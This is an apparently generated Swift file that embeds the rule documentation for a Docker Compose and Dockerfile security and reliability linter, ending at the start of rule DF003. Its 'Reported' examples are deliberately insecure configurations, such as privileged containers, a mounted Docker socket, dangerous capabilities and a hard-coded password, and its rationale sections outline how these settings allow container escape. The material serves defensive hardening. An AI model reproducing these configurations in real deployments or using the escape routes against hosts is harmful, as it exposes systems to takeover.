// Generated from Rules/**/*.md by `UPDATE_RULE_CATALOG=1 swift test --filter RuleCatalogTests`.
// Do not edit: edit the rule docs and regenerate. RuleCatalogTests fails when this file is stale.

extension RuleCatalog {
    static let generatedDocuments: [EmbeddedDocument] = [
        EmbeddedDocument(path: "Rules/compose/DC001.md", text: ###"""
---
id: DC001
title: Service runs privileged
kind: compose
severity: error
tags: [security]
security-severity: 9.0
references:
  - "CIS Docker Benchmark, 5.4: Ensure that privileged containers are not used"
  - https://docs.docker.com/reference/compose-file/services/#privileged
---
Reports a service with `privileged: true` (YAML 1.1 spellings such as `yes` included), at the `privileged` setting.

## Why
A privileged container gets every Linux capability, all host devices and no seccomp or AppArmor confinement. A process that takes over the application can load kernel modules, mount the host's disks and leave the container: a compromise of the service is a compromise of the host.

## How to fix
Remove `privileged: true`. Add the few capabilities the service really needs with `cap_add` (and `cap_drop: [ALL]` for the rest), or expose a single device with `devices:`.

## Example
Reported:
```yaml
services:
  agent:
    image: example/agent:2.1
    privileged: true
```
Not reported:
```yaml
services:
  agent:
    image: example/agent:2.1
    cap_drop: [ALL]
    cap_add: [NET_BIND_SERVICE]
```
"""###),
        EmbeddedDocument(path: "Rules/compose/DC002.md", text: ###"""
---
id: DC002
title: Dangerous capability added
kind: compose
severity: warning
tags: [security]
security-severity: 7.5
references:
  - "CIS Docker Benchmark, 5.3: Ensure that Linux kernel capabilities are restricted within containers"
  - https://docs.docker.com/reference/compose-file/services/#cap_add
  - https://man7.org/linux/man-pages/man7/capabilities.7.html
---
Reports each `cap_add` entry that grants a capability outside Docker's default set and known to break isolation: `ALL`, `SYS_ADMIN`, `NET_ADMIN`, `SYS_PTRACE`, `SYS_MODULE`, `SYS_RAWIO`, `SYS_BOOT`, `SYS_TIME`, `DAC_READ_SEARCH`, `BPF`, `PERFMON`, `MAC_ADMIN`, `MAC_OVERRIDE` (with or without the `CAP_` prefix, any case).

## Why
These capabilities are what container escapes use: `SYS_ADMIN` mounts filesystems and reaches much of the kernel's administration interface, `SYS_MODULE` loads code into the host kernel, `DAC_READ_SEARCH` opens host files by handle, `SYS_PTRACE` reads other processes' memory, and `ALL` is privileged mode by another name. Capabilities in Docker's default set (`CHOWN`, `NET_BIND_SERVICE`…) are not reported.

## How to fix
Drop the capability. When a service really needs one (a VPN needs `NET_ADMIN`), keep it with a comment saying why, drop everything else with `cap_drop: [ALL]`, and suppress the finding with a reason.

## Example
Reported:
```yaml
services:
  vpn:
    image: example/vpn:1.4
    cap_add: [SYS_ADMIN]
```
Not reported:
```yaml
services:
  web:
    image: example/web:1.4
    cap_drop: [ALL]
    cap_add: [NET_BIND_SERVICE]
```
"""###),
        EmbeddedDocument(path: "Rules/compose/DC003.md", text: ###"""
---
id: DC003
title: Service shares a host namespace
kind: compose
severity: warning
tags: [security]
security-severity: 7.0
references:
  - "CIS Docker Benchmark, 5.9: Ensure that the host's network namespace is not shared"
  - "CIS Docker Benchmark, 5.15: Ensure that the host's process namespace is not shared"
  - "CIS Docker Benchmark, 5.16: Ensure that the host's IPC namespace is not shared"
  - "CIS Docker Benchmark, 5.20: Ensure that the host's UTS namespace is not shared"
  - https://docs.docker.com/reference/compose-file/services/#network_mode
---
Reports `network_mode: host`, `pid: host`, `ipc: host`, `uts: host` and `userns_mode: host`, at the value.

## Why
Each setting removes one layer of isolation. With the host network the service can bind any host port (the `ports:` list no longer applies) and reach every local-only service; with the host PID namespace it sees and can signal every host process; the host IPC namespace shares memory segments; `userns_mode: host` turns off user-namespace remapping so root in the container is root on the host.

## How to fix
Remove the setting and use the compose network with published ports. Monitoring agents that truly need host namespaces are exceptions: suppress the finding with a reason.

## Example
Reported:
```yaml
services:
  app:
    image: example/app:3.2
    network_mode: host
```
Not reported:
```yaml
services:
  app:
    image: example/app:3.2
    ports: ["127.0.0.1:8000:8000"]
```
"""###),
        EmbeddedDocument(path: "Rules/compose/DC004.md", text: ###"""
---
id: DC004
title: Docker socket or sensitive host path mounted
kind: compose
severity: error
tags: [security]
security-severity: 9.0
references:
  - "CIS Docker Benchmark, 5.31: Ensure that the Docker socket is not mounted inside any containers"
  - "CIS Docker Benchmark, 5.5: Ensure sensitive host system directories are not mounted on containers"
  - https://docs.docker.com/reference/compose-file/services/#volumes
---
Reports a bind mount of a container runtime socket (`docker.sock`, `containerd.sock`, `podman.sock`, `crio.sock`) or of a sensitive host directory (`/`, `/etc`, `/root`, `/boot`, `/var/lib/docker`, `/run`, `/var/run`), in the short and long volume syntax, at the mount's source. A read-only mount of a directory is reported as a warning; a socket is an error whatever the mode, because the API behind it accepts writes.

## Why
Whoever can talk to the Docker socket can start a privileged container that mounts `/` and so owns the host; `:ro` on the socket file does not restrict the API. Mounting the host's root, `/etc` or Docker's state directory hands the container the host's configuration, credentials and every other container's files.

## How to fix
Remove the mount. Tools that need the Docker API (reverse proxies, dashboards) should go through a socket proxy that allows only the calls they need; mount only the specific files a service reads.

## Example
Reported:
```yaml
services:
  proxy:
    image: example/proxy:2.11
    volumes:
      - /var/run/docker.sock:/var/run/docker.sock:ro
```
Not reported:
```yaml
services:
  proxy:
    image: example/proxy:2.11
    volumes:
      - ./proxy.yml:/etc/proxy/proxy.yml:ro
```
"""###),
        EmbeddedDocument(path: "Rules/compose/DC005.md", text: ###"""
---
id: DC005
title: Datastore port published on all interfaces
kind: compose
severity: warning
tags: [security]
security-severity: 7.5
references:
  - "CIS Docker Benchmark, 5.13: Ensure that incoming container traffic is bound to a specific host interface"
  - https://docs.docker.com/engine/network/packet-filtering-firewalls/
  - https://github.com/moby/moby/issues/4737
  - https://docs.docker.com/reference/compose-file/services/#ports
---
Reports a `ports:` entry (short or long syntax) whose container port is a well-known database, cache or broker port — PostgreSQL 5432, MySQL 3306, Redis 6379, MongoDB 27017, Elasticsearch 9200/9300, RabbitMQ 5672, Memcached 11211, SQL Server 1433, Kafka 9092 and others — published without a host address, or on `0.0.0.0`/`::`. A container-only entry (`- "5432"`) counts: Docker publishes it on a random host port on every interface. Entries bound to a specific address (`127.0.0.1`, `::1`, a private IP) or whose address comes from a variable without default are not reported.

## Why
Docker writes its own NAT rules ahead of host firewalls such as ufw, so a published port is reachable from the network whatever the firewall says. Databases and caches in compose stacks often run with default or example credentials (or none, for Redis and Memcached) and are found by internet-wide scans within hours.

## How to fix
Bind the port to loopback (`127.0.0.1:5432:5432`) for local tools, or remove the mapping: other services reach the database over the compose network by service name.

## Example
Reported:
```yaml
services:
  db:
    image: postgres:17
    ports:
      - "5432:5432"
```
Not reported:
```yaml
services:
  db:
    image: postgres:17
    ports:
      - "127.0.0.1:5432:5432"
```
"""###),
        EmbeddedDocument(path: "Rules/compose/DC006.md", text: ###"""
---
id: DC006
title: Long-running service without a health check
kind: compose
severity: warning
tags: [reliability]
references:
  - "CIS Docker Benchmark, 5.26: Ensure that container health is checked at runtime"
  - https://docs.docker.com/reference/compose-file/services/#healthcheck
  - https://docs.docker.com/reference/compose-file/services/#depends_on
---
Reports a service with no `healthcheck` (at its name) or with the health check disabled (`disable: true` or `test: ["NONE"]`, at `healthcheck`). One-shot services are skipped: `restart: "no"` or `on-failure`, a restart policy of `none`/`on-failure`, or a service others wait for with `condition: service_completed_successfully`. Services in override files and services that `extends` another are skipped (the base may define the check). A service built from a local Dockerfile is reported as a note, since its Dockerfile may declare `HEALTHCHECK`.

## Why
Without a health check compose knows only that the process started: dependants cannot wait for readiness (`condition: service_healthy`), `docker ps` shows a hung server as "Up", and orchestrators cannot replace it.

## How to fix
Add a `healthcheck` whose `test` probes the service itself (`pg_isready`, `redis-cli ping`, an HTTP `/healthz`), with `interval`, `timeout`, `retries` and a `start_period` that covers start-up.

## Example
Reported:
```yaml
services:
  db:
    image: postgres:17
    restart: unless-stopped
```
Not reported:
```yaml
services:
  db:
    image: postgres:17
    restart: unless-stopped
    healthcheck:
      test: ["CMD-SHELL", "pg_isready -U postgres"]
      interval: 10s
      timeout: 3s
      retries: 5
```
"""###),
        EmbeddedDocument(path: "Rules/compose/DC007.md", text: ###"""
---
id: DC007
title: Dependency does not wait for health
kind: compose
severity: warning
tags: [reliability]
references:
  - https://docs.docker.com/reference/compose-file/services/#depends_on
  - https://docs.docker.com/compose/how-tos/startup-order/
---
Reports a `depends_on` entry — list form, or map form without `condition` — on a service that defines an enabled `healthcheck`, at the dependency's name. An explicit `condition: service_started` is reported as a note, since it may be deliberate.

## Why
`depends_on` without a condition waits only until the dependency's container has started, not until it accepts connections. The dependant then starts against a database still initialising and crashes or, worse, caches a failed connection. The dependency already has a health check, so waiting for it costs one line.

## How to fix
Use the map form with `condition: service_healthy`.

## Example
Reported:
```yaml
services:
  api:
    image: example/api:1.0
    depends_on: [db]
  db:
    image: postgres:17
    healthcheck:
      test: ["CMD-SHELL", "pg_isready"]
```
Not reported:
```yaml
services:
  api:
    image: example/api:1.0
    depends_on:
      db:
        condition: service_healthy
  db:
    image: postgres:17
    healthcheck:
      test: ["CMD-SHELL", "pg_isready"]
```
"""###),
        EmbeddedDocument(path: "Rules/compose/DC008.md", text: ###"""
---
id: DC008
title: Image not pinned
kind: compose
severity: warning
tags: [reliability, security]
security-severity: 4.0
references:
  - "CIS Docker Benchmark, 5.27: Ensure that Docker commands always make use of the latest version of their image"
  - https://docs.docker.com/reference/compose-file/services/#image
  - https://docs.docker.com/reference/cli/docker/image/pull/#pull-an-image-by-digest-immutable-identifier
---
Reports an `image:` without a tag (which means `latest`) or tagged `latest`, at the value, unless it has a digest. Interpolation is resolved with its defaults (`${TAG:-latest}` is reported); an image that depends on a variable without default is not judged. Services with `build:` are skipped: there `image` names what is built.

## Why
`latest` is whatever was pushed last: two hosts, or two deploys a day apart, run different software, a rollback pulls the same moving tag, and a compromised or broken release arrives unannounced.

## How to fix
Pin a version tag (`postgres:17.2`), and a digest (`postgres:17.2@sha256:…`) where deploys must be reproducible; let a bot (Renovate, Dependabot) propose updates.

## Example
Reported:
```yaml
services:
  cache:
    image: redis
```
Not reported:
```yaml
services:
  cache:
    image: redis:7.4.1
```
"""###),
        EmbeddedDocument(path: "Rules/compose/DC009.md", text: ###"""
---
id: DC009
title: No restart policy
kind: compose
severity: note
tags: [reliability]
references:
  - "CIS Docker Benchmark, 5.14: Ensure that the 'on-failure' container restart policy is set to '5'"
  - https://docs.docker.com/reference/compose-file/services/#restart
---
Reports a service with neither `restart` nor `deploy.restart_policy`, at its name. Skipped: override files, services that `extends` another, services with `replicas: 0`, and services others wait for with `condition: service_completed_successfully`.

## Why
Without a restart policy a crashed service stays down, and after a host reboot nothing comes back until someone runs `docker compose up` again.

## How to fix
Set `restart: unless-stopped` for servers. Write `restart: "no"` explicitly for one-shot tasks, which also tells readers (and DC006) that the service is meant to exit.

## Example
Reported:
```yaml
services:
  web:
    image: example/web:2.0
```
Not reported:
```yaml
services:
  web:
    image: example/web:2.0
    restart: unless-stopped
```
"""###),
        EmbeddedDocument(path: "Rules/compose/DC010.md", text: ###"""
---
id: DC010
title: No memory or CPU limit
kind: compose
severity: note
tags: [reliability, cost]
references:
  - "CIS Docker Benchmark, 5.10: Ensure that the memory usage for containers is limited"
  - "CIS Docker Benchmark, 5.11: Ensure that CPU priority is set appropriately on containers"
  - https://docs.docker.com/reference/compose-file/deploy/#resources
---
Reports a service without a memory limit (`deploy.resources.limits.memory` or the legacy `mem_limit`) or without a CPU limit (`deploy.resources.limits.cpus` or `cpus`), once per service at its name, naming what is missing. Skipped in override files, for services that `extends` another and for `replicas: 0`.

## Why
On a single host all services share the machine: one leak or load spike takes memory from the database and the kernel's OOM killer picks a victim, often not the culprit. Limits make the failure local and sizing explicit.

## How to fix
Set `deploy.resources.limits` with `memory` and `cpus` sized from observed use (and `reservations` for what must be guaranteed).

## Example
Reported:
```yaml
services:
  worker:
    image: example/worker:1.3
```
Not reported:
```yaml
services:
  worker:
    image: example/worker:1.3
    deploy:
      resources:
        limits: { memory: 512M, cpus: "1.0" }
```
"""###),
        EmbeddedDocument(path: "Rules/compose/DC011.md", text: ###"""
---
id: DC011
title: Service runs as root
kind: compose
severity: warning
tags: [security]
security-severity: 6.0
references:
  - "CIS Docker Benchmark, 4.1: Ensure that a user for the container has been created"
  - https://docs.docker.com/reference/compose-file/services/#user
---
Reports `user: root`, `user: "0"` and their `:group` forms, at the value (interpolation defaults applied). A service without `user:` is not reported here: the image decides, and the Dockerfile rules judge it.

## Why
Root in the container owns every file of the container and of its volumes, and is one kernel or runtime bug away from root on the host. Setting `user: root` explicitly undoes the non-root user an image may have chosen.

## How to fix
Run as an unprivileged numeric UID above 10000 (`user: "10001:10001"`) and give that UID ownership of the volumes it writes.

## Example
Reported:
```yaml
services:
  app:
    image: example/app:1.0
    user: root
```
Not reported:
```yaml
services:
  app:
    image: example/app:1.0
    user: "10001:10001"
```
"""###),
        EmbeddedDocument(path: "Rules/compose/DC012.md", text: ###"""
---
id: DC012
title: no-new-privileges not set
kind: compose
severity: note
tags: [security]
security-severity: 4.0
references:
  - "CIS Docker Benchmark, 5.25: Ensure that the container is restricted from acquiring additional privileges"
  - https://docs.docker.com/reference/compose-file/services/#security_opt
---
Reports a service whose `security_opt` does not contain `no-new-privileges:true` (also accepted: `no-new-privileges` and `no-new-privileges=true`), at its name; an explicit `no-new-privileges:false` is reported at that entry. Privileged services (DC001's finding) and, for the missing option, override files and services that `extends` another are skipped.

## Why
Without the flag a process can gain privileges through setuid and setcap binaries in the image (`su`, `ping` on old images, anything a package installed), so an exploited non-root process can still become root.

## How to fix
Add `security_opt: ["no-new-privileges:true"]`; use a YAML anchor to share it across services.

## Example
Reported:
```yaml
services:
  app:
    image: example/app:1.0
```
Not reported:
```yaml
services:
  app:
    image: example/app:1.0
    security_opt: ["no-new-privileges:true"]
```
"""###),
        EmbeddedDocument(path: "Rules/compose/DC013.md", text: ###"""
---
id: DC013
title: Literal secret in environment
kind: compose
severity: warning
tags: [security]
security-severity: 7.0
references:
  - https://docs.docker.com/compose/how-tos/use-secrets/
  - https://docs.docker.com/reference/compose-file/services/#environment
  - "OWASP Top 10 2021, A07: Identification and Authentication Failures (hard-coded credentials, CWE-798)"
---
Reports an `environment` entry (list `KEY=value` or map `KEY: value` form) whose name holds a credential — it contains PASSWORD, PASSWD, SECRET, TOKEN, API_KEY, ACCESS_KEY, PRIVATE_KEY, CREDENTIALS, or ends in `_PASS`/`_PWD` — and whose value is a literal, at the value. Not reported: values with interpolation (`${DB_PASSWORD}`, see DC014), empty values, booleans, `/run/secrets/…` paths, obvious placeholders (`changeme`, `<token>`, `xxxx`), and names that describe rather than hold a credential (`PASSWORD_FILE`, `TOKEN_URL`, `SECRET_NAME`, `PASSWORD_MIN_LENGTH`). The value is redacted in every output.

## Why
A password in the compose file is in the repository, its history and every fork and clone, and it is the same on every machine the stack runs on. Example stacks copied to a server keep their example passwords.

## How to fix
Take the value from the environment with a guard, `POSTGRES_PASSWORD: ${POSTGRES_PASSWORD:?set it in .env}`, and keep `.env` out of version control; or use compose `secrets:` and the image's `*_FILE` variable.

## Example
Reported:
```yaml
services:
  db:
    image: postgres:17
    environment:
      POSTGRES_PASSWORD: s3cr3t-Pa55
```
Not reported:
```yaml
services:
  db:
    image: postgres:17
    environment:
      POSTGRES_PASSWORD_FILE: /run/secrets/db_password
    secrets: [db_password]
secrets:
  db_password:
    file: ./secrets/db_password.txt
```
"""###),
        EmbeddedDocument(path: "Rules/compose/DC014.md", text: ###"""
---
id: DC014
title: Secret variable without default or guard
kind: compose
severity: warning
tags: [security, reliability]
security-severity: 5.0
references:
  - https://docs.docker.com/reference/compose-file/interpolation/
  - https://docs.docker.com/compose/how-tos/environment-variables/variable-interpolation/
---
Reports an interpolation `$VAR` or `${VAR}` (no `:-`/`-` default, no `:?`/`?` guard) anywhere in the file when the variable's name holds a credential, or when it is the value of an `environment` entry whose name does, at the `${…}` with exact columns.

## Why
When the variable is unset, compose prints a warning and substitutes an empty string. The database then initialises with an empty password (PostgreSQL's image refuses, MySQL's accepts with `MYSQL_ALLOW_EMPTY_PASSWORD`, Redis runs open), or the application starts with an empty API key and fails later, far from the cause.

## How to fix
Make compose refuse to start without it: `${DB_PASSWORD:?DB_PASSWORD must be set}`. (A default such as `${DB_PASSWORD:-dev}` silences this rule but puts a literal password in the file.)

## Example
Reported:
```yaml
services:
  db:
    image: postgres:17
    environment:
      POSTGRES_PASSWORD: ${DB_PASSWORD}
```
Not reported:
```yaml
services:
  db:
    image: postgres:17
    environment:
      POSTGRES_PASSWORD: ${DB_PASSWORD:?DB_PASSWORD must be set}
```
"""###),
        EmbeddedDocument(path: "Rules/compose/DC015.md", text: ###"""
---
id: DC015
title: Reference to an undefined service
kind: compose
severity: error
tags: [reliability]
references:
  - https://docs.docker.com/reference/compose-file/services/#depends_on
  - https://docs.docker.com/reference/compose-file/services/#links
  - https://docs.docker.com/reference/compose-file/services/#volumes_from
  - https://docs.docker.com/reference/compose-file/services/#network_mode
  - https://docs.docker.com/reference/compose-file/services/#extends
---
Reports a `depends_on` entry (unless `required: false`), a `links` entry, a `volumes_from: [service:]name`, a `network_mode: service:name` or a same-file `extends: { service: … }` that names a service this file does not define, at the name. Quiet for files that may be combined with others: override files (`*.override.*`, `*.dev.*`, `*.test.*`, `*.local.*`, `*.ci.*`…, or a file with a service lacking `image`, `build` and `extends`), add-on files whose name has a middle part (`compose.monitoring.yaml`, `docker-compose.images.yml`), and files with `include:`.

## Why
Compose refuses to start a project with a dangling reference ("depends on undefined service"); the file was probably renamed or copied without the service.

## How to fix
Fix the name or define the service.

## Example
Reported:
```yaml
services:
  api:
    image: example/api:1.0
    depends_on: [databse]
  database:
    image: postgres:17
```
Not reported:
```yaml
services:
  api:
    image: example/api:1.0
    depends_on: [database]
  database:
    image: postgres:17
```
"""###),
        EmbeddedDocument(path: "Rules/compose/DC016.md", text: ###"""
---
id: DC016
title: Named volume not declared
kind: compose
severity: error
tags: [reliability]
references:
  - https://docs.docker.com/reference/compose-file/volumes/
  - https://docs.docker.com/reference/compose-file/services/#volumes
---
Reports a service volume whose source is a name (not a path: it does not start with `/`, `.`, `~` or a drive letter) that the top-level `volumes:` does not declare, in short and long syntax, at the source. Same quiet cases as DC015.

## Why
Compose refuses the file ("service refers to undefined volume"). Often the author meant a bind mount of a directory and wrote `data:/data` instead of `./data:/data`.

## How to fix
Declare the volume under the top-level `volumes:`, or write a path (`./data`) for a bind mount.

## Example
Reported:
```yaml
services:
  db:
    image: postgres:17
    volumes:
      - pgdata:/var/lib/postgresql/data
```
Not reported:
```yaml
services:
  db:
    image: postgres:17
    volumes:
      - pgdata:/var/lib/postgresql/data
volumes:
  pgdata:
```
"""###),
        EmbeddedDocument(path: "Rules/compose/DC017.md", text: ###"""
---
id: DC017
title: Network not declared
kind: compose
severity: error
tags: [reliability]
references:
  - https://docs.docker.com/reference/compose-file/networks/
  - https://docs.docker.com/reference/compose-file/services/#networks
---
Reports a service network (list item or mapping key under the service's `networks:`) that the top-level `networks:` does not declare, other than `default`, at the name. Same quiet cases as DC015.

## Why
Compose refuses the file ("service refers to undefined network").

## How to fix
Declare the network under the top-level `networks:`, or fix the name.

## Example
Reported:
```yaml
services:
  web:
    image: example/web:1.0
    networks: [frontend]
```
Not reported:
```yaml
services:
  web:
    image: example/web:1.0
    networks: [frontend]
networks:
  frontend:
```
"""###),
        EmbeddedDocument(path: "Rules/compose/DC018.md", text: ###"""
---
id: DC018
title: Host port published twice
kind: compose
severity: error
tags: [reliability]
references:
  - https://docs.docker.com/reference/compose-file/services/#ports
---
Reports a port mapping whose host port (or range) overlaps one published earlier in the file with the same protocol on an overlapping address (no address and `0.0.0.0` overlap every address), at the later entry with the first as related location. Entries whose host port or address depend on a variable without default are skipped, and so are services in disjoint `profiles`.

## Why
Only one container can bind a host port: the second fails with "port is already allocated" and the stack comes up half started.

## How to fix
Give each service its own host port, or publish only the reverse proxy and let it route to the others over the compose network.

## Example
Reported:
```yaml
services:
  web:
    image: example/web:1.0
    ports: ["8080:80"]
  admin:
    image: example/admin:1.0
    ports: ["8080:8000"]
```
Not reported:
```yaml
services:
  web:
    image: example/web:1.0
    ports: ["8080:80"]
  admin:
    image: example/admin:1.0
    ports: ["127.0.0.1:8081:8000"]
```
"""###),
        EmbeddedDocument(path: "Rules/compose/DC019.md", text: ###"""
---
id: DC019
title: Obsolete top-level version
kind: compose
severity: note
tags: [maintainability]
references:
  - https://docs.docker.com/reference/compose-file/version-and-name/
  - https://github.com/compose-spec/compose-spec/blob/main/spec.md#version-top-level-element-obsolete
---
Reports the top-level `version:` key, from the key to the end of its value.

## Why
The compose specification made `version` informative only and then obsolete: Compose v2 ignores it and prints a warning on every command. Keeping it suggests that features are limited to that file format version, which is no longer true.

## How to fix
Delete the line.

## Example
Reported:
```yaml
version: "3.8"
services:
  web:
    image: example/web:1.0
```
Not reported:
```yaml
services:
  web:
    image: example/web:1.0
```
"""###),
        EmbeddedDocument(path: "Rules/compose/DC020.md", text: ###"""
---
id: DC020
title: json-file logs without rotation
kind: compose
severity: note
tags: [reliability, cost]
references:
  - https://docs.docker.com/engine/logging/drivers/json-file/
  - https://docs.docker.com/reference/compose-file/services/#logging
---
Reports a service whose `logging.driver` is `json-file` without a `max-size` option, at the driver. Services that leave the driver to the daemon's default are not reported (the daemon's `log-opts` may rotate).

## Why
The json-file driver keeps every line forever unless `max-size` is set: a chatty service fills the disk, and a full disk takes the database down with it.

## How to fix
Add `options: { max-size: "10m", max-file: "3" }`, or use the `local` driver, which rotates by default.

## Example
Reported:
```yaml
services:
  web:
    image: example/web:1.0
    logging:
      driver: json-file
```
Not reported:
```yaml
services:
  web:
    image: example/web:1.0
    logging:
      driver: json-file
      options: { max-size: "10m", max-file: "3" }
```
"""###),
        EmbeddedDocument(path: "Rules/compose/DC021.md", text: ###"""
---
id: DC021
title: container_name with several replicas
kind: compose
severity: error
tags: [reliability]
references:
  - https://docs.docker.com/reference/compose-file/services/#container_name
  - https://docs.docker.com/reference/compose-file/deploy/#replicas
---
Reports `container_name` on a service that asks for more than one container (`deploy.replicas` or the legacy `scale`), at `container_name`, with the replica setting as related location.

## Why
Container names are unique on a host: compose cannot create the second replica and the service never reaches its count.

## How to fix
Remove `container_name` and address the service by its service name on the compose network.

## Example
Reported:
```yaml
services:
  worker:
    image: example/worker:1.0
    container_name: worker
    deploy:
      replicas: 3
```
Not reported:
```yaml
services:
  worker:
    image: example/worker:1.0
    deploy:
      replicas: 3
```
"""###),
        EmbeddedDocument(path: "Rules/compose/DC022.md", text: ###"""
---
id: DC022
title: Confinement disabled
kind: compose
severity: warning
tags: [security]
security-severity: 7.0
references:
  - "CIS Docker Benchmark, 5.21: Ensure the default seccomp profile is not Disabled"
  - "CIS Docker Benchmark, 5.1: Ensure that, if applicable, an AppArmor Profile is enabled"
  - "CIS Docker Benchmark, 5.2: Ensure that, if applicable, SELinux security options are set"
  - https://docs.docker.com/reference/compose-file/services/#security_opt
---
Reports `security_opt` entries that turn confinement off: `seccomp:unconfined`, `apparmor:unconfined`, `label:disable` and `systempaths=unconfined` (either `:` or `=`), at the entry.

## Why
The default seccomp profile blocks around fifty dangerous system calls, AppArmor and SELinux confine file and capability use, and masked paths hide kernel interfaces under /proc and /sys. Turning them off widens every kernel bug into a possible escape.

## How to fix
Remove the option. If a system call is really needed, write a seccomp profile that allows just it (`seccomp:./seccomp.json`).

## Example
Reported:
```yaml
services:
  app:
    image: example/app:1.0
    security_opt: ["seccomp:unconfined"]
```
Not reported:
```yaml
services:
  app:
    image: example/app:1.0
    security_opt: ["no-new-privileges:true"]
```
"""###),
        EmbeddedDocument(path: "Rules/compose/DC023.md", text: ###"""
---
id: DC023
title: service_healthy on a service without health check
kind: compose
severity: warning
tags: [reliability]
references:
  - https://docs.docker.com/reference/compose-file/services/#depends_on
  - https://docs.docker.com/reference/compose-file/services/#healthcheck
---
Reports `condition: service_healthy` on a dependency whose health check is disabled, or that defines none and is not built from a local Dockerfile (whose `HEALTHCHECK` compose would use), at the condition. Skipped when the dependency may get its settings elsewhere (override files, `extends`).

## Why
A dependency without a health check never becomes healthy: compose stops with "dependency … has no healthcheck configured", or waits until it times out when the check is disabled.

## How to fix
Give the dependency a `healthcheck`, or wait with `condition: service_started` if readiness does not matter.

## Example
Reported:
```yaml
services:
  api:
    image: example/api:1.0
    depends_on:
      cache:
        condition: service_healthy
  cache:
    image: redis:7.4
```
Not reported:
```yaml
services:
  api:
    image: example/api:1.0
    depends_on:
      cache:
        condition: service_healthy
  cache:
    image: redis:7.4
    healthcheck:
      test: ["CMD", "redis-cli", "ping"]
```
"""###),
        EmbeddedDocument(path: "Rules/compose/DC024.md", text: ###"""
---
id: DC024
title: Secret or config not declared
kind: compose
severity: error
tags: [reliability, security]
references:
  - https://docs.docker.com/reference/compose-file/secrets/
  - https://docs.docker.com/reference/compose-file/configs/
---
Reports a service's `secrets:` or `configs:` entry (short form, or long form `source`) that the top-level `secrets:`/`configs:` does not declare, at the name. Same quiet cases as DC015.

## Why
Compose refuses the file ("service refers to undefined secret"), typically after a secret was renamed in one place only.

## How to fix
Declare it at the top level with a `file:` or `environment:` source, or fix the name.

## Example
Reported:
```yaml
services:
  db:
    image: postgres:17
    secrets: [db_password]
```
Not reported:
```yaml
services:
  db:
    image: postgres:17
    secrets: [db_password]
secrets:
  db_password:
    file: ./secrets/db_password.txt
```
"""###),
        EmbeddedDocument(path: "Rules/compose/DC025.md", text: ###"""
---
id: DC025
title: Malformed interpolation
kind: compose
severity: error
tags: [reliability]
references:
  - https://docs.docker.com/reference/compose-file/interpolation/
---
Reports a malformed `${…}` anywhere in the file — unterminated, empty (`${}`), a name that does not start with a letter or `_` (`${1}`), or an operator other than `:-`, `-`, `:?`, `?`, `:+`, `+` after the name — at the exact columns of the bad expression.

## Why
Compose refuses the whole file with "invalid interpolation format". A shell snippet in `command:` that uses `${…}` for the container's shell needs `$${…}` so compose leaves it alone.

## How to fix
Fix the expression, or write `$$` for a literal `$` that the container's shell should see.

## Example
Reported:
```yaml
services:
  app:
    image: example/app:1.0
    command: sh -c 'echo ${1}'
```
Not reported:
```yaml
services:
  app:
    image: example/app:1.0
    command: sh -c 'echo $${1}'
```
"""###),
        EmbeddedDocument(path: "Rules/dockerfile/DF001.md", text: ###"""
---
id: DF001
title: Final stage runs as root
kind: dockerfile
severity: warning
tags: [security]
security-severity: 6.5
references:
  - "CIS Docker Benchmark v1.6.0, 4.1: Ensure that a user for the container has been created"
  - https://docs.docker.com/reference/dockerfile/#user
  - https://docs.docker.com/build/building/best-practices/#user
equivalents:
  hadolint: "DL3002"
  checkov: "CKV_DOCKER_3, CKV_DOCKER_8"
---
Reports a Dockerfile whose final stage (together with the stages it is built `FROM`) never sets `USER`, at the final `FROM` image, or whose last `USER` is `root` or `0`, at that user. A `USER` given through a variable with no value known in the file is not judged; distroless `:nonroot` and Chainguard bases, which already run unprivileged, are not reported.

## Why
A process running as root inside the container is root on the host's kernel too: one container escape, a writable host mount or a kernel bug is enough to own the host. Kubernetes' `runAsNonRoot` and Pod Security "restricted" reject such images, and scanners (Trivy, Checkov, kube-score) want a numeric UID above 10000 — a user *name* cannot be verified as non-root by the kubelet.

## How to fix
Create an unprivileged user and switch to it after the steps that need root (package installs), using a numeric UID and GID above 10000. Keep the same UID in any Kubernetes `securityContext`.

## Example
Reported:
```dockerfile
FROM python:3.13-slim
RUN apt-get update && apt-get install -y --no-install-recommends libpq5 && rm -rf /var/lib/apt/lists/*
COPY app/ /app/
CMD ["python", "-m", "app"]
```
Not reported:
```dockerfile
FROM python:3.13-slim
RUN apt-get update && apt-get install -y --no-install-recommends libpq5 && rm -rf /var/lib/apt/lists/* \
 && useradd -l -u 10001 -U -d /app app
COPY --chown=10001:10001 app/ /app/
USER 10001:10001
CMD ["python", "-m", "app"]
```
"""###),
        EmbeddedDocument(path: "Rules/dockerfile/DF002.md", text: ###"""
---
id: DF002
title: Final image has no HEALTHCHECK
kind: dockerfile
severity: note
tags: [reliability]
references:
  - "CIS Docker Benchmark v1.6.0, 4.6: Ensure that HEALTHCHECK instructions have been added to container images"
  - https://docs.docker.com/reference/dockerfile/#healthcheck
equivalents:
  checkov: "CKV_DOCKER_2"
---
Reports the final stage, at its `FROM` image, when neither it nor the stages it is built on declare a `HEALTHCHECK`. `HEALTHCHECK NONE` counts as a deliberate choice.

## Why
Without a health check Docker only knows whether the process runs, not whether it answers. `docker compose` cannot wait for a dependency with `condition: service_healthy`, Swarm keeps routing to a hung task, and `docker ps` shows a deadlocked service as up. It is a note because orchestrators such as Kubernetes ignore `HEALTHCHECK` and use their own probes.

## How to fix
Add a `HEALTHCHECK` that exercises the service with a tool the image contains (see DF003), or `HEALTHCHECK NONE` when the platform checks health itself.

## Example
Reported:
```dockerfile
FROM python:3.13-slim
CMD ["uvicorn", "app.main:app", "--host", "0.0.0.0"]
```
Not reported:
```dockerfile
FROM python:3.13-slim
HEALTHCHECK --interval=30s --timeout=3s --start-period=10s \
  CMD ["python3", "-c", "import urllib.request; urllib.request.urlopen('http://127.0.0.1:8000/health')"]
CMD ["uvicorn", "app.main:app", "--host", "0.0.0.0"]
```
"""###),
        EmbeddedDocument(path: "Rules/dockerfile/DF003.md", text: ###"""
---
id: DF003
title: HEALTHCHECK uses a tool the image does not have
kind: dockerfile
severity: error
tags: [reliability]
references:
  - https://docs.docker.com/reference/dockerfile/#healthcheck
  - https://github.com/GoogleContainerTools/distroless#debug-images
---
